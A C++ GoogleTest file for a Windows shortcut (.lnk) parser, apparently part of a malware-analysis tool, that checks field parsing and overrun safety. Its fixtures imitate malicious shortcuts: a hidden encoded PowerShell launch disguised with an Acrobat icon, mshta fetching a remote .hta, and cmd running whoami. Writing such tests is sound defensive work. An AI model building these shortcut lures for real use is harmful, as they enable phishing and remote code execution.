// The shortcut reader on shortcuts written by the test-side writer: each part of the format, the
// target's sources in order, and truncated or lying sizes read without overrun.
#include "objects/lnk/lnk.h"

#include <gtest/gtest.h>

#include "objects/lnk/lnk_test_writer.h"

namespace vigie::objects::lnk {
namespace {

using testing::ShortcutSpec;
using testing::write_shortcut;

TEST(LnkReaderTest, ReadsEveryStringAndTheLocalTarget) {
  ShortcutSpec spec;
  spec.local_base_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  spec.name = "Facture";
  spec.relative_path = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
  spec.working_dir = "%TEMP%";
  spec.arguments = "-w hidden -enc SQBFAFgA";
  spec.icon_location = "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe";
  spec.icon_index = 13;
  spec.show_command = 7;
  const Shortcut s = read_shortcut(write_shortcut(spec));
  ASSERT_TRUE(s.valid);
  EXPECT_TRUE(s.errors.empty()) << s.errors.front();
  EXPECT_EQ(s.target(), spec.local_base_path);
  EXPECT_EQ(s.name, "Facture");
  EXPECT_EQ(s.relative_path, spec.relative_path);
  EXPECT_EQ(s.working_dir, "%TEMP%");
  EXPECT_EQ(s.arguments, "-w hidden -enc SQBFAFgA");
  EXPECT_EQ(s.icon_location, spec.icon_location);
  EXPECT_EQ(s.icon_index, 13);
  EXPECT_EQ(s.show_command, 7u);
}

TEST(LnkReaderTest, AnsiStringsAndANetworkTarget) {
  ShortcutSpec spec;
  spec.unicode = false;
  spec.net_name = "\\\\203.0.113.7\\partage";
  spec.path_suffix = "rapport.exe";
  spec.arguments = "/quiet";
  const Shortcut s = read_shortcut(write_shortcut(spec));
  ASSERT_TRUE(s.valid);
  EXPECT_EQ(s.network_path, "\\\\203.0.113.7\\partage\\rapport.exe");
  EXPECT_EQ(s.target(), s.network_path);
  EXPECT_EQ(s.arguments, "/quiet");
}

TEST(LnkReaderTest, TargetFromTheItemListOrTheEnvironmentBlock) {
  ShortcutSpec items;
  items.id_list = {"C:\\", "Windows", "System32", "cmd.exe"};
  items.arguments = "/c calc";
  const Shortcut a = read_shortcut(write_shortcut(items));
  ASSERT_TRUE(a.valid);
  EXPECT_TRUE(a.errors.empty());
  EXPECT_EQ(a.id_list_path, "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(a.target(), "C:\\Windows\\System32\\cmd.exe");
  EXPECT_EQ(a.arguments, "/c calc");

  ShortcutSpec environment;
  environment.environment_target = "%windir%\\system32\\mshta.exe";
  environment.arguments = "https://203.0.113.9/a.hta";
  const Shortcut b = read_shortcut(write_shortcut(environment));
  EXPECT_EQ(b.environment_target, "%windir%\\system32\\mshta.exe");
  EXPECT_EQ(b.target(), "%windir%\\system32\\mshta.exe");
}

TEST(LnkReaderTest, AVolumeNameIsConvertedToUtf8) {
  // fuzz_lnk: a volume shell item's name is ANSI like the others, not UTF-8 as it stands.
  ShortcutSpec spec;
  spec.id_list = {"\x9B" "C:\\", "Windows"};
  const Shortcut s = read_shortcut(write_shortcut(spec));
  EXPECT_EQ(s.id_list_path, "\xE2\x80\xBA" "C:\\Windows");  // windows-1252 0x9B is U+203A
}

TEST(LnkReaderTest, NotAShortcut) {
  EXPECT_FALSE(read_shortcut("").valid);
  EXPECT_FALSE(read_shortcut("MZ\x90").valid);
  std::string wrong_clsid = write_shortcut(ShortcutSpec{});
  wrong_clsid[5] = 'x';
  EXPECT_FALSE(read_shortcut(wrong_clsid).valid);
}

TEST(LnkReaderTest, TruncatedAndLyingSizesStopWithoutOverrun) {
  ShortcutSpec spec;
  spec.local_base_path = "C:\\Windows\\System32\\cmd.exe";
  spec.id_list = {"C:\\", "Windows"};
  spec.arguments = "/c whoami";
  spec.environment_target = "%COMSPEC%";
  const std::string full = write_shortcut(spec);
  // Every prefix of a valid shortcut reads without reading past its end (ASan watches).
  for (std::size_t n = 0; n <= full.size(); ++n) {
    const std::string cut = full.substr(0, n);  // its own allocation, so an overrun is caught
    const Shortcut s = read_shortcut(cut);
    if (n >= 0x4C) {
      EXPECT_TRUE(s.valid) << n;
    }
  }
  // A string count far beyond the file.
  ShortcutSpec one;
  one.arguments = "x";
  std::string lying = write_shortcut(one);
  const std::size_t count_at = 0x4C;
  lying[count_at] = '\xFF';
  lying[count_at + 1] = '\xFF';
  const Shortcut s = read_shortcut(lying);
  EXPECT_TRUE(s.valid);
  EXPECT_TRUE(s.arguments.empty());
  ASSERT_FALSE(s.errors.empty());
  EXPECT_EQ(s.errors.front(), "StringData larger than the file");
}

}  // namespace
}  // namespace vigie::objects::lnk
